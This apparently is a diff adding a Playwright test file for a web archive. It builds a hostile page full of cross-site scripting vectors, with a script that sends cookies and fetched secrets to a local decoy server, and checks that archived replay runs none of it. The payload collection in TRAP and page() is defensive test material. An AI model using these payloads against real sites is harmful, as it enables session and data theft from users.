@@ -1,0 +1,304 @@
+"""Law 7 in a real browser: an archived page that tries everything gains nothing.
+
+A page with scripts in every place is archived, browsed through a real server, and watched: what it asks for, what it
+changes, whom it reaches. The same page served as it is shows that the traps would spring.
+"""
+
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import AbstractContextManager, suppress
+from dataclasses import dataclass, field
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+from starlette.applications import Starlette
+from starlette.responses import HTMLResponse
+from starlette.routing import Route
+
+from newsarchive.archive import Archive
+from newsarchive.web.app import create_app
+
+sync_api = pytest.importorskip("playwright.sync_api")
+
+URL = "http://hostile.example/news/1"
+STAMP = "20260301060000"
+ArchiveOf = Callable[..., Archive]
+AtAddress = Callable[[object], AbstractContextManager[str]]
+
+TRAP = (
+    "document.title='TAKEN';document.cookie='taken=1';try{{localStorage.setItem('taken','1')}}catch(e){{}}"
+    "try{{top.document.title='TAKEN'}}catch(e){{}}try{{top.localStorage.setItem('taken','1')}}catch(e){{}}"
+    "try{{opener&&(opener.location='{decoy}/opener')}}catch(e){{}}"
+    "console.log('taken {name}');new Image().src='{decoy}/ran/{name}?'+document.cookie;"
+    "try{{fetch('/secret',{{credentials:'include'}}).then(r=>r.text()).then(t=>fetch('{decoy}/loot?'+t))}}catch(e){{}}"
+)
+
+
+def page(decoy: str) -> bytes:
+    """The hostile page; `decoy` is the server that it tries to reach."""
+
+    def trap(name: str) -> str:
+        return TRAP.format(decoy=decoy, name=name)
+
+    socket_address = decoy.replace("http://", "ws://")
+    return f"""<!doctype html>
+<html onload="{trap("html-onload")}" manifest="{decoy}/manifest"><head><title>News</title>
+<base href="{decoy}/base/" target="_parent">
+<meta http-equiv="refresh" content="1; url={decoy}/refresh">
+<meta http-equiv="Content-Security-Policy" content="default-src * data: blob: ws: 'unsafe-inline' 'unsafe-eval'">
+<link rel="preconnect" href="{decoy}"><link rel="dns-prefetch" href="//decoy.example">
+<link rel="preload" as="image" href="{decoy}/preload"><link rel="prefetch" href="{decoy}/prefetch">
+<link rel="modulepreload" href="{decoy}/module"><link rel="prerender" href="{decoy}/prerender">
+<link rel="stylesheet" href="{decoy}/sheet.css"><link rel="icon" href="{decoy}/icon.png">
+<link rel="import" href="{decoy}/import"><link rel="manifest" href="{decoy}/web.manifest">
+<style>@import "{decoy}/imported.css"; @import url({decoy}/imported2.css);
+body {{ background: url({decoy}/background.png); behavior: url({decoy}/x.htc); width: expression(alert(1)) }}
+@font-face {{ font-family: x; src: url({decoy}/font.woff2) }} p {{ font-family: x }}
+a {{ background: \\75 rl({decoy}/escaped.png) }} li {{ list-style: image-set("{decoy}/set.png" 1x) }}</style>
+<script>{trap("inline")}</script><script src="{decoy}/script.js"></script>
+<script type="module">import('data:text/javascript,export default globalThis').then(m => {{
+  m.default.top.name = 'taken'; new Image().src = '{decoy}/ran/data-import' }});</script>
+<script>new WebSocket('{socket_address}/socket'); navigator.serviceWorker.register('/web/{STAMP}id_/{URL}/sw.js');
+new Worker(URL.createObjectURL(new Blob(["fetch('{decoy}/ran/worker')"])));
+new EventSource('{decoy}/events'); navigator.sendBeacon('{decoy}/beacon');
+window.open('{decoy}/window'); top.location = '{decoy}/top';</script>
+<script type="speculationrules">{{"prerender": [{{"urls": ["{decoy}/speculated"]}}]}}</script>
+<noscript><img src="{decoy}/noscript.gif"><meta http-equiv="refresh" content="1;{decoy}/noscript"></noscript>
+</head><body onload="{trap("body-onload")}" background="{decoy}/body.png">
+<h1>A harmless headline</h1><p style="background:url('{decoy}/style.png')">Text of the page.</p>
+<img id="i" src="x:nothing" onerror="{trap("img-onerror")}"><img src="{decoy}/image.png" srcset="{decoy}/2x.png 2x">
+<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
+<picture><source srcset="{decoy}/source.png"><img alt=""></picture>
+<video src="{decoy}/film.mp4" poster="{decoy}/poster.jpg" autoplay onplay="{trap("video")}"></video>
+<audio src="{decoy}/sound.mp3" autoplay></audio><track src="{decoy}/track.vtt">
+<iframe src="{decoy}/frame"></iframe><iframe srcdoc="<script>parent.document.title='TAKEN'</script>"></iframe>
+<iframe src="javascript:{trap("iframe-js")}"></iframe>
+<object data="{decoy}/object"></object><embed src="{decoy}/embed"><applet code="{decoy}/applet"></applet>
+<svg onload="{trap("svg-onload")}"><script>{trap("svg-script")}</script><image href="{decoy}/svg.png"/>
+<use href="{decoy}/sprite.svg#a"/><a xlink:href="javascript:{trap("svg-link")}"><text y="20">s</text></a>
+<animate attributeName="href" to="javascript:alert(1)"/><foreignObject><img src=x onerror="{trap("foreign")}">
+</foreignObject><style><img src=x onerror="{trap("svg-style")}"></style></svg>
+<math><mtext><img src=x onerror="{trap("math")}"></mtext></math>
+<form id="f" action="{decoy}/form" method="post"><input name="q" autofocus onfocus="{trap("autofocus")}">
+<input type="password" name="p"><button id="submit" formaction="{decoy}/formaction">Send</button></form>
+<p><a id="script-link" href="javascript:{trap("link")}">script</a>
+<a id="data-link" href="data:text/html,<script>alert(1)</script>">data</a>
+<a id="live-link" href="{decoy}/live" ping="{decoy}/ping" target="_blank">live</a>
+<a id="opener-link" href="/other" target="_blank" rel="opener">other</a></p>
+<details open ontoggle="{trap("toggle")}"><summary>s</summary>d</details>
+<template><img src="{decoy}/template.png" onerror="{trap("template")}"></template>
+<x-element style="background:url({decoy}/custom.png)" onclick="{trap("custom")}">custom</x-element>
+<marquee onstart="{trap("marquee")}">m</marquee><noembed><img src=x onerror="{trap("noembed")}"></noembed>
+<textarea autofocus onfocus="{trap("textarea")}"></textarea><select onfocus="{trap("select")}"></select>
+<!--[if IE]><script>{trap("conditional")}</script><![endif]-->
+<title><img src=x onerror="{trap("second-title")}"></title><xmp><img src=x onerror="{trap("xmp")}"></xmp>
+</body></html>""".encode()
+
+
+@dataclass
+class Decoy:
+    """A server that answers nothing and counts who comes."""
+
+    port: int = 0
+    heard: list[bytes] = field(default_factory=list)
+
+    @property
+    def url(self) -> str:
+        """Its address, by a name that is not the archive's."""
+        return f"http://decoy.localhost:{self.port}"
+
+
+@pytest.fixture
+def decoy() -> Iterator[Decoy]:
+    """A server that whoever breaks out would reach; a connection alone counts."""
+    listening = socket.create_server(("127.0.0.1", 0))
+    decoy = Decoy(port=listening.getsockname()[1])
+
+    def hear() -> None:
+        while True:
+            try:
+                connection, _ = listening.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(2)
+                try:
+                    decoy.heard.append(connection.recv(300))
+                except TimeoutError:
+                    decoy.heard.append(b"a connection")
+
+    thread = threading.Thread(target=hear, daemon=True)
+    thread.start()
+    yield decoy
+    listening.shutdown(socket.SHUT_RDWR)
+    listening.close()
+    thread.join()
+
+
+@pytest.fixture
+def hostile(archive_of: ArchiveOf, decoy: Decoy) -> Archive:
+    """An archive that holds the page, and what it embeds, as hostile as itself."""
+    at = datetime(2026, 3, 1, 6, tzinfo=UTC)
+    script = TRAP.format(decoy=decoy.url, name="archived-script").encode()
+    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>%b</script></svg>" % script
+    return archive_of(
+        {"url": URL, "body": page(decoy.url), "at": at},
+        {"url": "http://hostile.example/other", "body": b"<h1>Other page</h1>" + page(decoy.url), "at": at},
+        {"url": f"{decoy.url}/script.js", "body": script, "mime": "text/javascript", "at": at},
+        {"url": f"{URL}/sw.js", "body": script, "mime": "text/javascript", "at": at},
+        {"url": f"{decoy.url}/image.png", "body": svg, "mime": "image/svg+xml", "at": at},
+        {"url": f"{decoy.url}/live", "body": page(decoy.url), "at": at},
+        {
+            "url": f"{decoy.url}/sheet.css",
+            "body": b"@import '%b/from-sheet.css'; h1 { color: rgb(1, 2, 3) }" % decoy.url.encode(),
+            "mime": "text/css",
+            "at": at,
+        },
+    )
+
+
+class Watch:
+    """Everything that a browser's context does."""
+
+    def __init__(self, browser: Any, base: str) -> None:
+        self.context = browser.new_context()
+        self.base = base
+        self.asked: list[str] = []
+        self.said: list[str] = []
+        self.context.on("request", lambda request: self.asked.append(request.url))
+        self.context.on("console", lambda message: self.said.append(message.text))
+        self.context.add_cookies([{"name": "session", "value": "canary", "url": base}])
+
+    def elsewhere(self) -> list[str]:
+        """What was asked of others than the archive."""
+        return [url for url in self.asked if not url.startswith((self.base, "data:", "about:"))]
+
+    def taken(self) -> list[str]:
+        """Signs that a script of the page ran."""
+        return [text for text in self.said if "taken" in text]
+
+
+def test_the_traps_spring_where_nothing_is_done(decoy: Decoy, chromium: Any, at_address: AtAddress) -> None:
+    """Served as it is, the page runs scripts and reaches the decoy: what follows measures something."""
+
+    def raw(request: object) -> HTMLResponse:
+        return HTMLResponse(page(decoy.url))
+
+    with at_address(Starlette(routes=[Route("/{rest:path}", raw)])) as base:
+        watch = Watch(chromium, base)
+        opened = watch.context.new_page()
+        opened.goto(f"{base}/news/1", wait_until="commit")
+        opened.wait_for_timeout(2_000)
+        assert watch.taken()
+        assert watch.elsewhere()
+        assert decoy.heard
+        watch.context.close()
+
+
+def test_an_archived_page_runs_nothing_and_reaches_nobody(
+    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
+) -> None:
+    """Browsed in its frame: no script runs, no cookie or storage changes, nobody but the archive is asked."""
+    with at_address(create_app(hostile)) as base:
+        watch = Watch(chromium, base)
+        opened = watch.context.new_page()
+        address = f"{base}/web/{STAMP}/{URL}"
+        opened.goto(f"{base}/")
+        opened.evaluate("localStorage.setItem('secret', 'canary')")
+        opened.goto(address)
+        frame = opened.frame_locator("iframe.replay")
+        assert frame.locator("h1").inner_text() == "A harmless headline"
+        opened.wait_for_timeout(2_500)  # longer than the refreshes wait
+        assert opened.url == address
+        assert "TAKEN" not in opened.title()
+        for name in ("#script-link", "#data-link", "#submit", "#f input", "x-element", "svg text"):
+            frame.locator(name).first.click(force=True, timeout=5_000)
+            opened.wait_for_timeout(200)
+        assert opened.url == address
+        assert opened.evaluate("Object.entries(localStorage)") == [["secret", "canary"]]
+        assert opened.evaluate("window.name") == ""
+        assert opened.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0
+        assert [(c["name"], c["value"]) for c in watch.context.cookies()] == [("session", "canary")]
+        assert len(watch.context.pages) == 1
+        assert watch.taken() == []
+        assert watch.elsewhere() == []
+        assert decoy.heard == []
+        watch.context.close()
+
+
+def test_what_the_archive_holds_is_shown_and_links_stay_inside(
+    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
+) -> None:
+    """Safe is not empty: the archived stylesheet applies, and a link leads to the archived page in the whole window."""
+    with at_address(create_app(hostile)) as base:
+        watch = Watch(chromium, base)
+        opened = watch.context.new_page()
+        opened.goto(f"{base}/web/{STAMP}/{URL}")
+        frame = opened.frame_locator("iframe.replay")
+        frame.locator("h1").wait_for()
+        colour = "e => e.ownerDocument.defaultView.getComputedStyle(e).color"
+        assert frame.locator("h1").evaluate(colour) == "rgb(1, 2, 3)"
+        frame.locator("#live-link").click()
+        opened.wait_for_url(f"{base}/web/{STAMP}/{decoy.url}/live")
+        assert opened.locator("iframe.replay").count() == 1
+        assert watch.elsewhere() == []
+        assert decoy.heard == []
+        watch.context.close()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/web/{STAMP}mp_/{URL}",
+        f"/web/{STAMP}id_/{URL}",
+        f"/web/{STAMP}im_/{URL}",
+        f"/web/{STAMP}cs_/{URL}",
+        f"/web/{STAMP}oe_/{URL}/sw.js",
+        f"/web/{STAMP}id_/{URL}/sw.js",
+        "/web/" + STAMP + "im_/{decoy}/image.png",
+        "/web/" + STAMP + "/{decoy}/image.png",
+        "/web/" + STAMP + "/{decoy}/script.js",
+    ],
+)
+def test_no_address_of_the_archive_runs_what_it_holds(
+    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress, path: str
+) -> None:
+    """Opened by itself, under whatever mark, an archived page, script or image runs nothing."""
+    with at_address(create_app(hostile)) as base:
+        watch = Watch(chromium, base)
+        opened = watch.context.new_page()
+        with suppress(sync_api.Error):  # what is handed over as a download opens no page
+            opened.goto(base + path.format(decoy=decoy.url), wait_until="load")
+        opened.wait_for_timeout(1_800)
+        assert watch.taken() == []
+        assert watch.elsewhere() == []
+        assert decoy.heard == []
+        assert [(c["name"], c["value"]) for c in watch.context.cookies()] == [("session", "canary")]
+        watch.context.close()
+
+
+def test_another_site_cannot_find_out_what_is_archived(
+    hostile: Archive, decoy: Decoy, chromium: Any, at_address: AtAddress
+) -> None:
+    """A page elsewhere that embeds addresses of the archive learns nothing: neither frames nor images load."""
+    with at_address(create_app(hostile)) as base:
+        tries = (
+            f"<img src='{base}/web/{STAMP}im_/{decoy.url}/image.png' onload='document.title+=1'>"
+            f"<img src='{base}/web/{STAMP}im_abcdef/{decoy.url}/image.png' onload='document.title+=2'>"
+            f"<link rel=stylesheet href='{base}/web/{STAMP}cs_/{decoy.url}/sheet.css'><h1>h</h1>"
+            f"<iframe src='{base}/web/{STAMP}mp_/{URL}'></iframe>"
+        )
+
+        def elsewhere(request: object) -> HTMLResponse:
+            return HTMLResponse(f"<!doctype html><title>-</title>{tries}")
+
+        with at_address(Starlette(routes=[Route("/", elsewhere)])) as other:
+            opened = chromium.new_page()
+            opened.goto(other.replace("127.0.0.1", "other.localhost"))
+            opened.wait_for_timeout(500)
+            assert opened.title() == "-"
+            assert opened.locator("h1").evaluate("e => getComputedStyle(e).color") == "rgb(0, 0, 0)"
+            assert opened.frame_locator("iframe").get_by_text("A harmless headline").count() == 0
+            opened.close()
